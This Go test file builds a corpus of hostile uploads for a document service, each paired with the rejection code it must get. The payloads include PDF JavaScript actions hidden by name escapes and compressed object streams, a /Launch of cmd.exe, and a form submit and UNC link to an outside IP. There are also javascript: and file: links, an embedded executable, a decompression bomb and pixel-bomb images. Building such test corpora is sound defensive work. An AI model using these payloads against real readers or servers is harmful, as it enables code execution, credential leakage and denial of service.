package doctest

import (
	"bufio"
	"bytes"
	"embed"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"strings"
)

// The hostile corpus: files an attacker uploads, each with the error code its upload must get.
// They live as files in testdata/hostile (so they can be opened with any tool, replayed against
// a running server, and fed to the fuzz target); HostileFiles is how each was made, and
// `go test ./service/documents/doctest -run TestHostileCorpus -update` rewrites them.

//go:embed testdata/hostile
var hostileDir embed.FS

// Hostile is one file of the corpus.
type Hostile struct {
	File string // name under testdata/hostile, also the upload's file name
	Code string // the error code its upload gets (every one is 422)
	What string
	Data []byte
}

// HostileCorpus reads the corpus from testdata/hostile (its MANIFEST lists file, code, what).
func HostileCorpus() ([]Hostile, error) {
	m, err := hostileDir.ReadFile("testdata/hostile/MANIFEST")
	if err != nil {
		return nil, err
	}
	var out []Hostile
	sc := bufio.NewScanner(bytes.NewReader(m))
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		f := strings.SplitN(line, "\t", 3)
		if len(f) != 3 {
			return nil, fmt.Errorf("MANIFEST: bad line %q", line)
		}
		data, err := hostileDir.ReadFile("testdata/hostile/" + f[0])
		if err != nil {
			return nil, err
		}
		out = append(out, Hostile{File: f[0], Code: f[1], What: f[2], Data: data})
	}
	return out, sc.Err()
}

// HostileFile is a recipe of the corpus.
type HostileFile struct {
	File, Code, What string
	Build            func() []byte
}

const (
	codeActive    = "document.pdf_active_content"
	codeUnread    = "document.unreadable"
	codeEncrypted = "document.pdf_encrypted"
	codeComplex   = "document.pdf_too_complex"
	codePixels    = "document.too_many_pixels"
)

// jsAction is an action that runs a script, written plainly.
const jsAction = "<< /S /JavaScript /JS (app.alert\\('palmaid'\\)) >>"

// HostileFiles are the recipes, the seven variants of issue 19 first.
func HostileFiles() []HostileFile {
	return []HostileFile{
		{"js-hex-escaped-names.pdf", codeActive, "/OpenAction << /S /#4aava#53cript /J#53 (…) >>: names hidden by #xx escapes", func() []byte {
			return BuildPDF(PageObjects("/OpenAction << /S /#4aava#53cript /J#53 (app.alert\\(1\\)) >> ", ""), "")
		}},
		{"js-hex-escaped-in-aa.pdf", codeActive, "a page's /A#41 (AA) with an open action /J#53 (JS)", func() []byte {
			return BuildPDF(PageObjects("", "/A#41 << /O << /S /Java#53cript /J#53 (app.alert\\(1\\)) >> >> "), "")
		}},
		{"js-in-objstm.pdf", codeActive, "/OpenAction with JavaScript inside a FlateDecode object stream (/Type /ObjStm) and a cross-reference stream", func() []byte {
			return BuildPDFObjStm(PageObjects("/OpenAction 4 0 R ", ""), FlateObjStm, jsAction)
		}},
		{"embedded-files.pdf", codeActive, "a document-level /EmbeddedFiles name tree and a file specification with /EF", func() []byte {
			objs := PageObjects("/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >> ", "")
			objs = append(objs, "<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
				Stream("/Type /EmbeddedFile ", []byte("MZ\x90\x00 not really a program")))
			return BuildPDF(objs, "")
		}},
		{"submit-form.pdf", codeActive, "a form button whose action /SubmitForm posts the fields to a stranger's server", func() []byte {
			objs := PageObjects("/AcroForm << /Fields [4 0 R] >> ", "/Annots [4 0 R] ")
			objs = append(objs, "<< /Type /Annot /Subtype /Widget /FT /Btn /T (ok) /Rect [0 0 100 20] /A << /S /SubmitForm /F << /FS /URL /F (http://203.0.113.9/collect) >> >> >>")
			return BuildPDF(objs, "")
		}},
		{"xfa.pdf", codeActive, "an /AcroForm with an /XFA form (its own scripting)", func() []byte {
			objs := PageObjects("/AcroForm << /Fields [] /XFA 4 0 R >> ", "")
			objs = append(objs, Stream("", []byte(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><config/></xdp:xdp>`)))
			return BuildPDF(objs, "")
		}},
		{"js-escaped-in-objstm-aa.pdf", codeActive, "escaped /A#41 and /J#53 inside a compressed object stream", func() []byte {
			return BuildPDFObjStm(PageObjects("", "/A#41 << /O 4 0 R >> "), FlateObjStm, "<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>")
		}},
		// beyond the seven
		{"js-objstm-png-predictor.pdf", codeActive, "the object stream behind a PNG predictor, which scrambles the inflated bytes", func() []byte {
			return BuildPDFObjStm(PageObjects("/OpenAction 4 0 R ", ""), PNGPredicted, jsAction)
		}},
		{"js-objstm-ascii85.pdf", codeActive, "the object stream under [/ASCII85Decode /FlateDecode]", func() []byte {
			return BuildPDFObjStm(PageObjects("/OpenAction 4 0 R ", ""), ASCII85Flate, jsAction)
		}},
		{"js-objstm-untyped.pdf", codeActive, "an object stream without /Type /ObjStm (readers follow the cross-reference stream into it)", func() []byte {
			return BuildPDFObjStm(PageObjects("/OpenAction 4 0 R ", ""), UntypedObjStm, jsAction)
		}},
		{"js-names-tree.pdf", codeActive, "a document-level /Names /JavaScript tree", func() []byte {
			objs := PageObjects("/Names << /JavaScript << /Names [(init) 4 0 R] >> >> ", "")
			objs = append(objs, jsAction)
			return BuildPDF(objs, "")
		}},
		{"launch.pdf", codeActive, "/OpenAction /Launch cmd.exe", func() []byte {
			return BuildPDF(PageObjects("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> ", ""), "")
		}},
		{"gotor-unc.pdf", codeActive, "a link /GoToR to \\\\host\\share (hands Windows credentials to that host)", func() []byte {
			objs := PageObjects("", "/Annots [4 0 R] ")
			objs = append(objs, "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F (\\\\\\\\203.0.113.9\\\\share\\\\x.pdf) /D [0 /Fit] >> >>")
			return BuildPDF(objs, "")
		}},
		{"uri-file.pdf", codeActive, "a link /URI to file:///", func() []byte {
			objs := PageObjects("", "/Annots [4 0 R] ")
			objs = append(objs, "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>")
			return BuildPDF(objs, "")
		}},
		{"uri-javascript-hex.pdf", codeActive, "a link /URI javascript: written as a hex string", func() []byte {
			objs := PageObjects("", "/Annots [4 0 R] ")
			objs = append(objs, fmt.Sprintf("<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI <%x> >> >>", "javascript:alert(1)"))
			return BuildPDF(objs, "")
		}},
		{"rich-media.pdf", codeActive, "a /RichMedia annotation (Flash)", func() []byte {
			objs := PageObjects("", "/Annots [4 0 R] ")
			objs = append(objs, "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>")
			return BuildPDF(objs, "")
		}},
		{"hidden-object-in-string.pdf", codeUnread, "an object written inside a string, where a repaired cross-reference table finds it", func() []byte {
			return BuildPDF(PageObjects("/Lang (4 0 obj << /S /Launch /F (cmd.exe) >> endobj) ", ""), "")
		}},
		{"hidden-object-in-stream.pdf", codeUnread, "an object written inside raw stream data", func() []byte {
			objs := PageObjects("", "/Contents 4 0 R ")
			objs = append(objs, Stream("", []byte("q Q\n5 0 obj << /S /Launch /F (cmd.exe) >> endobj\n")))
			return BuildPDF(objs, "")
		}},
		{"encrypted.pdf", codeEncrypted, "a file with an /Encrypt dictionary (nothing in it can be read)", func() []byte {
			objs := PageObjects("", "")
			objs = append(objs, "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <00> /U <00> >>")
			return BuildPDF(objs, "/Encrypt 4 0 R /ID [<01><01>] ")
		}},
		{"flate-bomb.pdf", codeComplex, "a FlateDecode stream of 200 KB that inflates to 256 MB", func() []byte {
			objs := PageObjects("", "/Contents 4 0 R ")
			objs = append(objs, Stream("/Filter /FlateDecode ", Zlib(make([]byte, 256<<20))))
			return BuildPDF(objs, "")
		}},
		{"deep-nesting.pdf", codeComplex, "arrays nested 10 000 deep", func() []byte {
			return BuildPDF(PageObjects("/X "+strings.Repeat("[", 10000)+strings.Repeat("]", 10000)+" ", ""), "")
		}},
		{"truncated.pdf", codeUnread, "a PDF cut in half (no %%EOF)", func() []byte {
			p := BuildPDF(PageObjects("", ""), "")
			return p[:len(p)/2]
		}},
		{"stream-never-ends.pdf", codeUnread, "a stream whose data runs to the end of the file (with a %%EOF after it)", func() []byte {
			p := BuildPDF(PageObjects("", "/Contents 4 0 R "), "")
			i := bytes.LastIndex(p, []byte("xref"))
			return append(append(p[:i:i], "4 0 obj\n<< /Length 999999 >>\nstream\nq Q\n"...), "\n%%EOF\n"...)
		}},
		{"unbalanced-dictionary.pdf", codeUnread, "a dictionary that is never closed", func() []byte {
			return BuildPDF([]string{"<< /Type /Catalog /Pages 2 0 R", "<< /Type /Pages /Kids [] /Count 0 >>"}, "")
		}},
		{"objstm-bad-offsets.pdf", codeUnread, "an object stream whose header points outside it", func() []byte {
			return BuildPDFObjStm(PageObjects("", ""), func(c []byte) ([]byte, string) {
				return Zlib(append([]byte("1 99999 "), c...)), "/Type /ObjStm /Filter /FlateDecode "
			})
		}},
		{"png-6300x6300.png", codePixels, "a 6300×6300 PNG (39.7 MP, ~116 KB): 1.4 s and 120 MB to decode before", func() []byte {
			return solidPNG(6300, 6300)
		}},
		{"png-4097x4096.png", codePixels, "a PNG one column over the default ceiling (16 777 216 pixels)", func() []byte {
			return FixturePNGBomb(4097, 4096)
		}},
		{"png-bomb-50000x50000.png", codePixels, "a PNG header declaring 2.5 gigapixels over a tiny image data chunk", func() []byte {
			return FixturePNGBomb(50000, 50000)
		}},
		{"jpeg-30000x30000-header.jpg", codePixels, "a JPEG whose frame header declares 30000×30000", func() []byte {
			return jpegWithSize(FixtureJPEG(16, 16), 30000, 30000)
		}},
		{"png-truncated.png", codeUnread, "a PNG cut in half", func() []byte {
			p := FixturePNG(64, 64)
			return p[:len(p)/2]
		}},
		{"png-bad-crc.png", codeUnread, "a PNG whose image data chunk fails its CRC", func() []byte {
			p := FixturePNG(64, 64)
			i := bytes.Index(p, []byte("IDAT"))
			p[i+8] ^= 0xFF
			return p
		}},
		{"jpeg-truncated.jpg", codeUnread, "a JPEG cut after 200 bytes", func() []byte {
			return FixtureJPEG(64, 64)[:200]
		}},
	}
}

// solidPNG is a w×h PNG of one colour: tiny on disk, w×h×4 bytes once decoded.
func solidPNG(w, h int) []byte {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	c := color.RGBA{200, 200, 190, 255}
	for i := 0; i < len(img.Pix); i += 4 {
		img.Pix[i], img.Pix[i+1], img.Pix[i+2], img.Pix[i+3] = c.R, c.G, c.B, c.A
	}
	var b bytes.Buffer
	_ = (&png.Encoder{CompressionLevel: png.BestCompression}).Encode(&b, img)
	return b.Bytes()
}

// SolidPNG is solidPNG for the measurements (a photo-sized image that costs a full decode).
func SolidPNG(w, h int) []byte { return solidPNG(w, h) }

// jpegWithSize rewrites the frame header (SOF0) of a baseline JPEG to declare w×h.
func jpegWithSize(j []byte, w, h uint16) []byte {
	out := append([]byte(nil), j...)
	i := bytes.Index(out, []byte{0xFF, 0xC0})
	if i < 0 {
		return out
	}
	out[i+5], out[i+6] = byte(h>>8), byte(h)
	out[i+7], out[i+8] = byte(w>>8), byte(w)
	return out
}
